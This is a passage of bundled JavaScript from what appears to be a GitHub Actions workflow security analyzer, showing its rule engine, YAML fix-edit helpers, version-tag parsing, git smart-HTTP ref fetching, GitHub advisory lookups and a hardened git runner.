            high = middle;
    }
    const found = instructions[low];
    return found && found.start <= offset ? found : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/analyze.js



/** Runs rules over a repository: one traversal, whatever their number. The order of what it gives is fixed. */
function analyze(repository, options) {
    const isJudged = options.isJudged ?? (() => true);
    const personas = options.personas ?? new Map();
    const rules = options.rules.filter((rule) => (0,lib/* isHeardBy */.it)(personas.get(rule.id) ?? rule.persona, options.persona));
    const run = new Run(repository, rules, { ...options, personas });
    for (const workflow of repository.workflows)
        if (isJudged(workflow.path))
            run.workflow(workflow);
    for (const action of repository.actions)
        if (isJudged(action.path))
            run.action(action);
    for (const dependabot of repository.dependabot)
        if (isJudged(dependabot.file.path))
            run.dependabot(dependabot);
    for (const renovate of repository.renovate)
        if (isJudged(renovate.file.path))
            run.renovate(renovate);
    if (repository.lock && isJudged(repository.lock.file.path))
        run.actionsLock(repository.lock);
    for (const dockerfile of repository.dockerfiles)
        if (isJudged(dockerfile.file.path))
            run.dockerfile(dockerfile);
    run.repository();
    return { findings: run.findings.filter((finding) => isJudged(finding.location.path)), errors: run.errors };
}
class Run {
    repo;
    options;
    findings = [];
    errors = [];
    listeners = new Map();
    /** Several uses of an anchor are one place: a finding there is told once. */
    told = new Set();
    /** The file that is being judged. */
    structure;
    constructor(repo, rules, options) {
        this.repo = repo;
        this.options = options;
        for (const rule of rules) {
            const report = this.reporter(rule);
            for (const hook of HOOKS) {
                const hear = rule[hook];
                if (hear)
                    this.listenersOf(hook).push({ rule, hear, report });
            }
        }
    }
    workflow(workflow) {
        this.structure = yamlStructure(workflow.document);
        this.call("workflow", workflow);
        this.permissions(workflow);
        this.env(workflow, workflow);
        for (const job of workflow.jobs) {
            this.permissions(job);
            if (job.kind === "normal")
                this.normalJob(job);
            else
                this.reusableJob(job);
        }
    }
    action(action) {
        this.structure = yamlStructure(action.document);
        this.call("action", action);
        if (action.kind === "composite")
            for (const step of action.steps)
                this.step(step, null);
    }
    dependabot(dependabot) {
        this.structure = yamlStructure(dependabot.document);
        this.call("dependabot", dependabot);
    }
    renovate(renovate) {
        this.structure = yamlStructure(renovate.document);
        this.call("renovate", renovate);
    }
    actionsLock(lock) {
        this.structure = yamlStructure(lock.document);
        this.call("actionsLock", lock);
    }
    dockerfile(dockerfile) {
        this.structure = dockerfileStructure(dockerfile);
        this.call("dockerfile", dockerfile);
    }
    repository() {
        this.call("repository", this.repo);
    }
    normalJob(job) {
        this.call("job", job);
        this.env(job, job.workflow);
        for (const container of job.containers) {
            this.call("container", container);
            this.env(container, job.workflow);
        }
        for (const step of job.steps)
            this.step(step, job.workflow);
    }
    reusableJob(job) {
        this.call("reusableJob", job);
        this.uses({ uses: job.uses, step: null, job });
    }
    step(step, workflow) {
        this.call("step", step);
        this.env(step, workflow);
        const { uses, run } = step;
        if (uses)
            this.uses({ uses, step, job: null });
        if (run)
            this.call("run", run);
    }
    uses(site) {
        if (this.options.isUsesJudged?.(site.uses) === false)
            return;
        this.call("uses", site);
    }
    permissions(owner) {
        const { permissions } = owner;
        if (permissions)
            this.call("permissions", permissions);
    }
    env(owner, workflow) {
        const { env: block } = owner;
        if (block)
            this.call("env", { block, workflow });
    }
    listenersOf(hook) {
        let listeners = this.listeners.get(hook);
        if (!listeners) {
            listeners = [];
            this.listeners.set(hook, listeners);
        }
        return listeners;
    }
    /** A rule that throws costs its own findings at this place, never the report. */
    call(hook, thing) {
        for (const { rule, hear, report } of this.listeners.get(hook) ?? NOBODY) {
            try {
                hear.call(rule, thing, report);
            }
            catch (error) {
                this.errors.push(internalError(rule, this.structure?.file.path ?? ".", error));
            }
        }
    }
    reporter(rule) {
        const report = (place, message, details = {}) => {
            const persona = this.options.personas.get(rule.id) ?? details.persona ?? rule.persona;
            if (!(0,lib/* isHeardBy */.it)(persona, this.options.persona))
                return;
            const identity = `${rule.id}\0${place.file.path}\0${place.start}\0${place.end}`;
            if (this.told.has(identity))
                return;
            this.told.add(identity);
            this.findings.push(this.draft(rule, place, message, persona, details));
        };
        const options = (0,config_options/* optionValues */.ib)(rule.options, this.options.options?.get(rule.id) ?? {});
        const { persona, isPartial = false } = this.options;
        return Object.assign(report, { repository: this.repo, persona, isPartial, options });
    }
    draft(rule, place, message, persona, details) {
        const route = this.structure?.file === place.file ? this.structure.routeTo(place.start) : null;
        const { fix } = details;
        return {
            rule: rule.id,
            severity: details.severity ?? rule.severity,
            confidence: details.confidence ?? "high",
            persona,
            message,
            location: locate(place),
            related: (details.related ?? []).map((other) => ({ message: other.message, location: locate(other.place) })),
            witness: details.witness ?? null,
            fix: fix
                ? {
                    description: fix.description,
                    safe: fix.safe,
                    files: [{ path: place.file.path, edits: fix.edits }, ...(fix.others ?? [])],
                }
                : null,
            // Findings that fewer people hear don't count among those that more people hear.
            anchor: `${route?.words ?? ""}\0${textOf(place, route?.node)}\0${details.persona ?? rule.persona}`,
            alsoLines: [...headLines(place, route), ...extentLines(place)],
            partLines: route?.part ? [place.file.position(route.part.start).line, lastLineOf(place.file, route.part)] : null,
        };
    }
}
const NOBODY = [];
const HOOKS = [
    "repository",
    "workflow",
    "action",
    "actionsLock",
    "dependabot",
    "renovate",
    "dockerfile",
    "permissions",
    "job",
    "reusableJob",
    "container",
    "step",
    "uses",
    "run",
    "env",
];
function internalError(rule, path, error) {
    const message = error instanceof Error ? error.message : String(error);
    return { path, line: 1, rule: rule.id, message: `internal-error: the rule failed here: ${message}` };
}
/** The location of a place; a block scalar is shown by its lines, without the line break at its end. */
function locate(place) {
    const { file } = place;
    const text = file.text;
    let end = place.end;
    while (end > place.start && (text[end - 1] === "\n" || text[end - 1] === "\r"))
        end--;
    const from = file.position(place.start);
    const to = file.position(end);
    return { path: file.path, startLine: from.line, startColumn: from.column, endLine: to.line, endColumn: to.column };
}
/** Without what can change unseen: quotes, line breaks, the whole of which the place is only the beginning. */
function textOf(place, node) {
    if (place.extent)
        return "";
    const isWhole = node?.kind === "scalar" && node.start === place.start && node.end === place.end;
    const text = isWhole ? node.value : place.file.text.slice(place.start, place.end);
    return text.replace(/\s+/g, " ").trim();
}
function extentLines({ file, extent }) {
    if (!extent)
        return [];
    const first = file.position(extent.start).line;
    const last = file.position(extent.end).line;
    return Array.from({ length: last - first + 1 }, (_, i) => first + i);
}
/** A block ends behind its last line break. */
function lastLineOf(file, { start, end }) {
    return file.position(Math.max(start, end - 1)).line;
}
function headLines({ file }, route) {
    return route?.head == null ? [] : [file.position(route.head).line];
}

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __nccwpck_require__(6760);
// EXTERNAL MODULE: ./packages/action-kit/lib/index.js + 16 modules
var action_kit_lib = __nccwpck_require__(3978);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/edits.js
/** Adds `key` to a mapping, after `after` or at its end. */
function insertEntry(map, key, value, after) {
    return map.flow ? insertInFlow(map, key, value) : insertInBlock(map, key, value, after ?? map.entries.at(-1));
}
function insertInFlow(map, key, value) {
    const { text } = map.file;
    if (text[map.end - 1] !== "}")
        return null;
    const last = map.entries.at(-1);
    const at = last ? endOf(last) : map.start + 1;
    // Between the last value and the brace there may be a comma already.
    const hasComma = last !== undefined && /^\s*,/.test(text.slice(at, map.end - 1));
    if (hasComma)
        return null;
    return { start: at, end: at, text: `${last ? ", " : ""}${key}: ${flowText(value)}` };
}
function flowText(value) {
    if (typeof value === "string")
        return value;
    return `{${Object.entries(value)
        .map(([key, text]) => `${key}: ${text}`)
        .join(", ")}}`;
}
function insertInBlock(map, key, value, after) {
    const { file } = map;
    const first = map.entries[0];
    if (!after || !first)
        return null;
    const indent = indentOf(file, first.key);
    if (indent === null)
        return null;
    const { at, newline } = endOfLine(file, lastCharacter(file, after));
    const lines = blockLines(key, value, indent, indentStep(map));
    return { start: at, end: at, text: lines.map((line) => newline + line).join("") };
}
function blockLines(key, value, indent, step) {
    if (typeof value === "string")
        return [`${indent}${key}: ${value}`];
    return [`${indent}${key}:`, ...Object.entries(value).map(([name, text]) => `${indent}${step}${name}: ${text}`)];
}
/** Removes an entry with its line; null where it is its mapping's only one, or stands behind a `- ` with others on its line. */
function removeEntry(map, entry) {
    const index = map.entries.indexOf(entry);
    if (index === -1 || map.entries.length === 1)
        return null;
    const next = map.entries[index + 1];
    const previous = map.entries[index - 1];
    if (map.flow) {
        if (next)
            return { start: entry.key.start, end: next.key.start, text: "" };
        return previous ? { start: endOf(previous), end: endOf(entry), text: "" } : null;
    }
    const { file } = map;
    const { at, newline } = endOfLine(file, lastCharacter(file, entry));
    const start = startOfLine(file, entry.key.start);
    // The first key of a list item shares its line with the dash: the next key takes its place.
    if (file.text.slice(start, entry.key.start).trim() !== "") {
        return next ? { start: entry.key.start, end: next.key.start, text: "" } : null;
    }
    const end = Math.min(file.text.length, at + (at < file.text.length ? newline.length : 0));
    return { start, end, text: "" };
}
/** Gives an entry another value. */
function setValue({ key, value, alias }, text) {
    if (alias)
        return null;
    const { start, end, file } = value;
    if (value.kind !== "scalar" || !value.isEmpty)
        return { start, end, text };
    if (start === key.end)
        return isKeyAlone(file, start) ? insertion(start, `: ${text}`) : null;
    // Else there is a tag or an anchor.
    return file.text[start - 1] === ":" ? insertion(start, ` ${text}`) : null;
}
/** `{key}` and `{key, other: 1}`, unlike `? key`. */
function isKeyAlone({ text }, end) {
    let next = end;
    while (text[next] === " ")
        next++;
    return text[next] === "," || text[next] === "}";
}
function insertion(at, text) {
    return { start: at, end: at, text };
}
/** Sets a key of the mapping that `parent` holds under `name` (`with`, `env`, …), which is added where it is missing. */
function setIn(parent, name, key, value, after) {
    const holder = parent.entry(name);
    if (!holder)
        return insertEntry(parent, name, { [key]: value }, after);
    if (holder.alias)
        return null;
    const { value: node } = holder;
    if (node.kind === "map") {
        const existing = node.entry(key);
        if (!existing)
            return node.entries.length === 0 && !node.flow ? null : insertEntry(node, key, value);
        return existing.value.kind === "scalar" ? setValue(existing, value) : null;
    }
    return node.kind === "scalar" && node.isEmpty && !parent.flow ? fillEmpty(parent, holder, key, value) : null;
}
/** `with:` and nothing behind it. */
function fillEmpty(parent, holder, key, value) {
    const indent = indentOf(parent.file, holder.key);
    if (indent === null)
        return null;
    const { at, newline } = endOfLine(parent.file, holder.key.end);
    return { start: at, end: at, text: `${newline}${indent}${indentStep(parent)}${key}: ${value}` };
}
function endOf(entry) {
    return entry.alias ? entry.alias.end : Math.max(entry.value.end, entry.key.end);
}
/** The end of an entry without the line breaks that a block scalar ends with. */
function lastCharacter(file, entry) {
    let end = endOf(entry);
    while (end > entry.key.end && /\s/.test(file.text[end - 1]))
        end--;
    return end;
}
function startOfLine(file, offset) {
    const { line } = file.position(offset);
    return file.lineStarts[line - 1];
}
function endOfLine(file, offset) {
    const { text } = file;
    const lineFeed = text.indexOf("\n", offset);
    const end = lineFeed === -1 ? text.length : lineFeed;
    return { at: text[end - 1] === "\r" && end > offset ? end - 1 : end, newline: newlineOf(file) };
}
/** As the file has it. A lone carriage return is none that all readers agree on. */
function newlineOf(file) {
    return /\r?\n/.exec(file.text)?.[0] ?? "\n";
}
/** White space as deep as a key stands; `- ` before it counts as two spaces. Null where a tab or a key stands before it. */
function indentOf(file, key) {
    const before = file.text.slice(startOfLine(file, key.start), key.start);
    return /^[ -]*$/.test(before) ? " ".repeat(before.length) : null;
}
/** One level of indentation, as the mapping's own children have it; two spaces where it has none. */
function indentStep(map) {
    for (const entry of map.entries) {
        const { value } = entry;
        if (entry.alias || value.kind !== "map" || value.flow || !value.entries[0])
            continue;
        const { file } = map;
        const own = file.position(entry.key.start).column;
        const inner = file.position(value.entries[0].key.start).column;
        if (inner > own)
            return " ".repeat(inner - own);
    }
    return "  ";
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/model/index.js + 19 modules
var model = __nccwpck_require__(6012);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/places.js
/** Where something is missing from a mapping: its first line, without what follows. */
function firstLineOf(map) {
    const { text } = map.file;
    let end = map.start;
    while (end < map.end && text[end] !== "\n" && text[end] !== "\r")
        end++;
    const line = text.slice(map.start, end);
    const comment = line.search(/\s#/);
    const length = comment === -1 ? line.length : line.slice(0, comment).trimEnd().length;
    return { file: map.file, start: map.start, end: map.start + length, extent: map };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rule.js
/** Declares a rule; everything about it is in this one value. */
function defineRule(rule) {
    return { persona: "regular", isZizmor: false, fixes: "none", sources: [], options: {}, ...rule };
}

// EXTERNAL MODULE: ./packages/workflow-analysis/node_modules/semver/functions/parse.js
var parse = __nccwpck_require__(2716);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/versions.js


const VERSION = /^(|.*[^0-9.])v?(\d{1,9})(?:\.(\d{1,9}))?(?:\.(\d{1,9}))?(?:-([0-9A-Za-z.-]+))?(?:\+[0-9A-Za-z.-]+)?$/;
/** Undefined for a tag that is no version. */
function versions_parseVersionTag(tag) {
    // A ref is at most a few hundred characters; longer ones are nobody's version.
    const match = tag.length <= 256 ? VERSION.exec(tag) : null;
    if (!match)
        return undefined;
    const [, before = "", major, minor, patch, prerelease = ""] = match;
    const numbers = [major, minor, patch].flatMap((text) => (text === undefined ? [] : [Number(text)]));
    return { tag, prefix: before.replace(/v$/i, "").toLowerCase(), numbers, prerelease };
}
/** The more precise first: full versions before shorter, releases before pre-releases, then the newer. */
function comparePrecision(a, b) {
    return (b.numbers.length - a.numbers.length ||
        Number(a.prerelease !== "") - Number(b.prerelease !== "") ||
        compareNumbers(b.numbers, a.numbers) ||
        compareText(a.tag, b.tag));
}
/** By version, the older first; a pre-release comes before its release. What is alike goes by name. (Semantic Versioning 2.0.0, section 11) */
function versions_compareVersions(a, b) {
    const [left, right] = [asSemVer(a), asSemVer(b)];
    // A pre-release that Semantic Versioning doesn't know has only its numbers to go by.
    return (left && right ? left.compare(right) : compareNumbers(a.numbers, b.numbers)) || (0,lib/* compareText */.n6)(a.tag, b.tag);
}
function asSemVer({ numbers, prerelease }) {
    const [major = 0, minor = 0, patch = 0] = numbers;
    return parse(`${major}.${minor}.${patch}${prerelease && `-${prerelease}`}`, { loose: true });
}
function compareNumbers(a, b) {
    for (let i = 0; i < Math.max(a.length, b.length); i++) {
        const difference = (a[i] ?? 0) - (b[i] ?? 0);
        if (difference !== 0)
            return difference;
    }
    return 0;
}
/** The tags that name versions, the most precise first. */
function versions_versionTagsOf(tags) {
    return tags.flatMap((tag) => versions_parseVersionTag(tag) ?? []).sort(comparePrecision);
}
/**
 * The tag that says most precisely which version a commit is.
 *
 * @param tags the tags on that commit
 * @param ref the tag by which it was asked for: only its family counts, and of that what the ref stands for (`v1` → `v1.1.0`,
 *   never `v2`); a ref that is no version takes any
 * @returns `ref` itself where no tag is more precise
 */
function versions_mostPreciseTag(tags, ref) {
    const asked = versions_parseVersionTag(ref);
    return versions_versionTagsOf(tags).find((version) => !asked || standsFor(asked, version))?.tag ?? ref;
}
/** Is a version what another, shorter or alike, stands for? `v1` stands for `v1.2.0`. */
function standsFor(asked, version) {
    if (asked.prefix !== version.prefix || asked.numbers.length > version.numbers.length)
        return false;
    return asked.numbers.every((number, i) => number === version.numbers[i]);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/known-refs.js


/** The refs of the repositories that were asked for, one exchange each. */
class known_refs_KnownRefs {
    origin;
    answers = new Answers();
    byCommit = new WeakMap();
    constructor(origin) {
        this.origin = origin;
    }
    async load(slugs) {
        const unique = new Map();
        for (const slug of slugs)
            if (!unique.has(known_refs_keyOfSlug(slug)))
                unique.set(known_refs_keyOfSlug(slug), slug);
        await inParallel(unique.values(), (slug) => this.ask(slug));
    }
    async ask(target) {
        const { origin } = this;
        return origin ? this.answers.ask(known_refs_keyOfSlug(target), () => origin.refsOf(known_refs_slugOf(target))) : undefined;
    }
    /** Null when there is no such repository, undefined when nobody knows. */
    of(slug) {
        return this.answers.get(known_refs_keyOfSlug(slug));
    }
    /** The tags that lead to a commit, in the order of the refs. */
    tagsAt(refs, commit) {
        let index = this.byCommit.get(refs);
        if (!index) {
            index = new Map();
            for (const [tag, at] of refs.tags) {
                const tags = index.get(at);
                if (tags)
                    tags.push(tag);
                else
                    index.set(at, [tag]);
            }
            this.byCommit.set(refs, index);
        }
        return index.get(commit.toLowerCase()) ?? [];
    }
    /**
     * The version that a commit is: the most precise of its tags, of the family of `hint` where that is a version.
     *
     * @param hint what the author calls it, or nothing
     */
    versionAt(refs, commit, hint) {
        const tags = this.tagsAt(refs, commit);
        if (hint !== undefined && tags.includes(hint))
            return parseVersionTag(mostPreciseTag(tags, hint));
        const family = hint === undefined ? undefined : parseVersionTag(hint)?.prefix;
        const versions = versionTagsOf(tags);
        return versions.find(({ prefix }) => prefix === family) ?? versions[0];
    }
}
/** Nothing but the name: what else a target holds is nobody's business who is asked. */
function known_refs_slugOf({ owner, repo }) {
    return { owner, repo };
}
/** Owner and repository have no case on GitHub. */
function known_refs_keyOfSlug({ owner, repo }) {
    return `${owner}/${repo}`.toLowerCase();
}
/** Names that may stand in an address or a path as they are. */
function isPlainName({ owner, repo }) {
    return [owner, repo].every((name) => /^[\w.-]{1,100}$/.test(name) && !/^\.+$/.test(name));
}
/** May all of a reference stand in an address or a path as it is? */
function known_refs_isPlainTarget(target) {
    return isPlainName(target) && isPlainPath(target);
}
/** May an action stand at that path? It reaches an address, and a mirror's files. */
function isPlainPath({ path }) {
    return (path === "" ||
        path.split("/").every((part) => /^[^\p{Cc}%\\:?#*"<>|]{1,200}$/u.test(part) && !/^\.{1,2}$/.test(part)));
}
/** May git have a ref of that name? (git-check-ref-format) */
function known_refs_isPossibleRef(ref) {
    return /^[^\p{Cc}\s~^:?*[\\]{1,1000}$/u.test(ref) && !/\.\.|@\{|\/\/|^\/|[/.]$/.test(ref);
}
/** A commit of a repository, whatever the path in it: one commit a repository. */
function known_refs_keyOfCommit(target) {
    return `${known_refs_keyOfSlug(target)}@${target.ref.toLowerCase()}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/combined-origin.js

/** A mirror for refs, history and files, and the platform for what no mirror knows: archived repositories and advisories. */
function combinedOrigin(mirror, platform) {
    return {
        refsOf: (slug) => mirror.refsOf(slug),
        reachabilityOf: (...question) => mirror.reachabilityOf(...question),
        fileAt: (...question) => mirror.fileAt(...question),
        releaseTimeOf: (...question) => mirror.releaseTimeOf(...question),
        aboutOf: (slug) => platform.aboutOf(slug),
        advisoriesOn: (...question) => platform.advisoriesOn(...question),
    };
}
/** Each repository by the first that has it: a GitHub Enterprise Server, else github.com. */
function fallbackOrigin(first, second) {
    const chosen = new Map();
    const asked = new Map();
    const choose = (slug) => {
        const key = keyOfSlug(slug);
        let origin = chosen.get(key);
        if (!origin) {
            const refs = first.refsOf(slug);
            asked.set(key, refs);
            origin = refs.then((found) => (found === null ? second : first));
            chosen.set(key, origin);
        }
        return origin;
    };
    return {
        async refsOf(slug) {
            const origin = await choose(slug);
            return origin === first ? asked.get(keyOfSlug(slug)) : origin.refsOf(slug);
        },
        reachabilityOf: async (slug, ...rest) => (await choose(slug)).reachabilityOf(slug, ...rest),
        fileAt: async (slug, ...rest) => (await choose(slug)).fileAt(slug, ...rest),
        releaseTimeOf: async (slug, ...rest) => (await choose(slug)).releaseTimeOf(slug, ...rest),
        aboutOf: async (slug) => (await choose(slug)).aboutOf(slug),
        advisoriesOn: async (slug, ...rest) => (await choose(slug)).advisoriesOn(slug, ...rest),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/action-file.js


/** Files of actions are small; a larger one is made to be slow. */
const MAX_BYTES = (/* unused pure expression or super */ null && (1024 * 1024));
/** @throws UserError for a file that is larger than any action's */
function action_file_requireSmall(slug, path, bytes) {
    if (bytes <= MAX_BYTES)
        return;
    const reason = `${path} has ${bytes} bytes, more than the ${MAX_BYTES} that are read`;
    throw new UserError(nameOfSlug(slug), reason, "look at what this action is");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/smart-http-refs.js



const MAX_ANSWER_BYTES = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
/**
 * Refs over git's smart HTTP: one exchange a repository, which needs no token and knows no limit of requests.
 *
 * @see gitprotocol-http, gitprotocol-v2 (`ls-refs`), gitprotocol-pack (version 0)
 */
function smart_http_refs_smartHttpRefs({ http, serverUrl, token, }) {
    const authorization = token === undefined ? {} : { authorization: `Basic ${btoa(`x-access-token:${token}`)}` };
    return async (slug) => {
        const name = nameOfSlug(slug);
        const doing = `get the refs of ${name}`;
        const base = `${serverUrl}/${name}.git`;
        const ask = (sent) => http.request({
            doing,
            url: `${base}/info/refs?service=git-upload-pack`,
            headers: sent,
            maxBytes: MAX_ANSWER_BYTES,
        });
        let headers = { ...PROTOCOL, ...authorization };
        let first = await ask(headers);
        if (first.status === 401 && token !== undefined) {
            // A token that isn't good any more; refs of public repositories need none.
            headers = PROTOCOL;
            first = await ask(headers);
        }
        // Without rights a repository that is there looks like one that isn't.
        if (first.status === 401 || first.status === 403 || first.status === 404)
            return null;
        const lines = linesOf(expectOk(first, doing), doing);
        if (!lines.some((line) => line.trim() === "version 2"))
            return readAdvertisement(lines);
        const answer = await http.request({
            doing,
            // A repository that has another name now is asked by that one, as git does.
            url: first.url.replace(/\/info\/refs\?.*$/, "/git-upload-pack"),
            method: "POST",
            isQuestion: true,
            headers: { ...headers, "content-type": "application/x-git-upload-pack-request" },
            body: LS_REFS,
            maxBytes: MAX_ANSWER_BYTES,
        });
        return readLsRefs(linesOf(expectOk(answer, doing), doing));
    };
}
function expectOk({ status, body }, doing) {
    if (status === 200)
        return body;
    throw new UserError(doing, `the server answered with status ${status}`, "check the address of the server, and try again");
}
const PROTOCOL = { "git-protocol": "version=2" };
const LS_REFS = [
    packet("command=ls-refs\n"),
    packet("object-format=sha1"),
    "0001",
    packet("peel\n"),
    packet("symrefs\n"),
    packet("ref-prefix refs/heads/\n"),
    packet("ref-prefix refs/tags/\n"),
    "0000",
].join("");
/** @see gitprotocol-common, "pkt-line Format" */
function packet(text) {
    return (text.length + 4).toString(16).padStart(4, "0") + text;
}
/**
 * The text of each packet; flush and delimiter packets are left out.
 *
 * @throws UserError for what is cut off or no such protocol, so that nothing is taken for missing that only didn't arrive
 */
function linesOf(body, doing) {
    const decoder = new TextDecoder();
    const lines = [];
    let isEnded = false;
    for (let at = 0; at < body.length;) {
        const prefix = decoder.decode(body.subarray(at, at + 4));
        const length = /^[0-9a-f]{4}$/i.test(prefix) ? Number.parseInt(prefix, 16) : Number.NaN;
        if (Number.isNaN(length) || length > body.length - at || length === 3) {
            throw new UserError(doing, "the server's answer is no git protocol", "check the address of the server");
        }
        isEnded = length === 0;
        if (length > 4)
            lines.push(decoder.decode(body.subarray(at + 4, at + length)));
        at += Math.max(length, 4);
    }
    const refusal = lines.find((line) => line.startsWith("ERR "));
    if (refusal)
        throw new UserError(doing, `the server refuses: ${refusal.slice(4).trim().slice(0, 200)}`, "try again later");
    if (!isEnded)
        throw new UserError(doing, "the server's answer is cut off, or no git protocol", "try again");
    return lines;
}
/** Version 0: `<object> <ref>`, behind the first of them a NUL and the server's capabilities. */
function readAdvertisement(lines) {
    const collector = new RefCollector();
    for (const line of lines) {
        const match = /^([0-9a-f]{40}) ([^\0\n]+)/.exec(line);
        if (match)
            collector.add(match[2], match[1]);
    }
    return collector.refs;
}
/** Version 2: `<object> <ref>[ symref-target:<ref>][ peeled:<object>]`. */
function readLsRefs(lines) {
    const collector = new RefCollector();
    for (const line of lines) {
        const [object, name, ...attributes] = line.trimEnd().split(" ");
        if (object === undefined || name === undefined || !/^[0-9a-f]{40}$/.test(object))
            continue;
        const peeled = attributes.find((attribute) => attribute.startsWith("peeled:"));
        collector.add(name, object);
        if (peeled)
            collector.addPeeled(name, peeled.slice("peeled:".length));
    }
    return collector.refs;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/github-origin.js





/** Refs that are asked for a commit, beside the default branch and those that its comment names. */
const MOST_REFS = 20;
/** Answers from GitHub: refs over git, which has no limit of requests, and all else from the REST API. */
function gitHubOrigin(options) {
    return new GitHubOrigin(options);
}
class GitHubOrigin {
    options;
    abouts = new Map();
    client;
    constructor(options) {
        this.options = options;
    }
    refsOf(slug) {
        return smartHttpRefs(this.options)(slug);
    }
    async reachabilityOf(slug, commit, refs, hints) {
        const about = await this.aboutOf(slug);
        const first = [...(about ? [about.defaultBranch] : []), ...hints.filter((name) => hasRef(refs, name))];
        const others = newestFirst(refs).filter((name) => !first.includes(name));
        const asked = [...new Set([...first, ...others.slice(0, MOST_REFS)])];
        for (const base of asked)
            if (await this.contains(slug, base, commit))
                return "reachable";
        return others.length > MOST_REFS ? "unknown" : "unreachable";
    }
    /** Does a ref lead to a commit? (`behind`: the commit is an ancestor of the ref) */
    async contains(slug, base, commit) {
        const basehead = `${base}...${commit}`;
        const answer = await this.ask(`look for ${commit} in ${base} of ${nameOfSlug(slug)}`, (rest) => rest.repos.compareCommitsWithBasehead({ ...slug, basehead }));
        return answer?.status === "behind" || answer?.status === "identical";
    }
    async fileAt(slug, commit, path) {
        const answer = await this.ask(`get ${path} of ${nameOfSlug(slug)}`, (rest) => rest.repos.getContent({
            ...slug,
            path,
            ref: commit,
            headers: { accept: "application/vnd.github.raw+json" },
        }));
        // The types know only the JSON form, and a folder comes as a list.
        const text = answer;
        if (typeof text !== "string")
            return null;
        requireSmall(slug, path, Buffer.byteLength(text));
        return text;
    }
    aboutOf(slug) {
        const key = nameOfSlug(slug).toLowerCase();
        let about = this.abouts.get(key);
        if (!about) {
            about = this.askAbout(slug);
            this.abouts.set(key, about);
        }
        return about;
    }
    async askAbout(slug) {
        const answer = await this.ask(`look at ${nameOfSlug(slug)}`, (rest) => rest.repos.get(slug));
        return (answer && {
            fullName: answer.full_name,
            isArchived: answer.archived,
            id: answer.id,
            ownerId: answer.owner.id,
            defaultBranch: answer.default_branch,
        });
    }
    async releaseTimeOf(slug, tag, commit) {
        const name = nameOfSlug(slug);
        const release = tag === null
            ? null
            : await this.ask(`get the release ${tag} of ${name}`, (rest) => rest.repos.getReleaseByTag({ ...slug, tag }));
        const published = Date.parse(release?.published_at ?? "");
        if (release && !Number.isNaN(published))
            return { time: published, isImmutable: release.immutable === true };
        const answer = await this.ask(`get the commit ${commit} of ${name}`, (rest) => rest.repos.getCommit({ ...slug, ref: commit }));
        const committed = Date.parse(answer?.commit.committer?.date ?? "");
        return Number.isNaN(committed) ? null : { time: committed, isImmutable: false };
    }
    async advisoriesOn(slug, version) {
        const affects = `${nameOfSlug(slug)}@${version}`;
        const answer = await this.ask(`get the advisories on ${affects}`, (rest) => rest.securityAdvisories.listGlobalAdvisories({ ecosystem: "actions", affects }));
        return answer?.map((advisory) => ({
            id: advisory.ghsa_id,
            summary: advisory.summary,
            severity: severityOf(advisory.severity),
            fixedIn: fixedIn(advisory.vulnerabilities ?? [], slug, version),
        }));
    }
    /** Null for what isn't there. */
    async ask(doing, call) {
        this.client ??= this.connect();
        try {
            return await (await this.client).ask(doing, call);
        }
        catch (error) {
            if (error instanceof HttpStatusError && (error.status === 404 || error.status === 422))
                return null;
            throw error;
        }
    }
    connect() {
        const { http, token, apiUrl } = this.options;
        return createGitHub({ http, token, env: { GITHUB_API_URL: apiUrl } });
    }
}
function hasRef({ tags, branches }, name) {
    return tags.has(name) || branches.has(name);
}
/** Version tags from the newest, then all else in its order. */
function newestFirst({ tags, branches }) {
    const names = [...tags.keys(), ...branches.keys()];
    const versions = names.flatMap((name) => parseVersionTag(name) ?? []).sort((a, b) => compareVersions(b, a));
    return [...new Set([...versions.map(({ tag }) => tag), ...names])];
}
const SEVERITIES = {
    critical: "critical",
    high: "high",
    medium: "medium",
    low: "low",
};
/** GitHub leaves some advisories without one. */
function severityOf(word) {
    return SEVERITIES[word] ?? "medium";
}
/** The lowest version above the one in use that mends it: each range of vulnerable versions has its own. */
function fixedIn(vulnerabilities, slug, version) {
    const own = vulnerabilities.filter(({ package: of }) => of?.name?.toLowerCase() === nameOfSlug(slug).toLowerCase());
    const current = parseVersionTag(version);
    const versions = own.flatMap(({ first_patched_version: text }) => (text && parseVersionTag(text)) || []);
    const above = versions.filter((fixed) => !current || compareVersions(fixed, current) > 0);
    return above.sort(compareVersions)[0]?.tag ?? null;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __nccwpck_require__(3024);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/git.js
const MAX_OUTPUT_BYTES = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
const TIMEOUT = 30_000;
/** The mirror may belong to somebody else; nothing of its configuration, nor of the user's, is to run. */
const SETTINGS = [
    "safe.directory=*",
    "core.fsmonitor=false",
    "core.hooksPath=/dev/null",
    "protocol.allow=never",
].flatMap((setting) => ["-c", setting]);
/**
 * Runs git on a bare repository, with nothing but its objects and refs. Only plumbing may be asked for: `log` and `show`
 * would run programs that the repository's configuration names.
 *
 * @returns also where git ends with another status than 0
 * @throws whatever `execFile` does when git isn't there, takes too long or says too much
 */
async function git_git(bare, ...args) {
    const env = {
        PATH: process.env.PATH,
        GIT_CONFIG_NOSYSTEM: "1",
        GIT_CONFIG_GLOBAL: "/dev/null",
        GIT_NO_REPLACE_OBJECTS: "1",
        GIT_NO_LAZY_FETCH: "1",
        LC_ALL: "C",
    };
    const options = { env, maxBuffer: MAX_OUTPUT_BYTES, timeout: TIMEOUT };
    // Not imports: checks that ask no mirror don't wait for them.
    const run = process.getBuiltinModule("node:util").promisify(process.getBuiltinModule("node:child_process").execFile);
    try {
        const { stdout, stderr } = await run("git", [...SETTINGS, "--git-dir", bare, ...args], options);
        return { status: 0, stdout, stderr };
    }
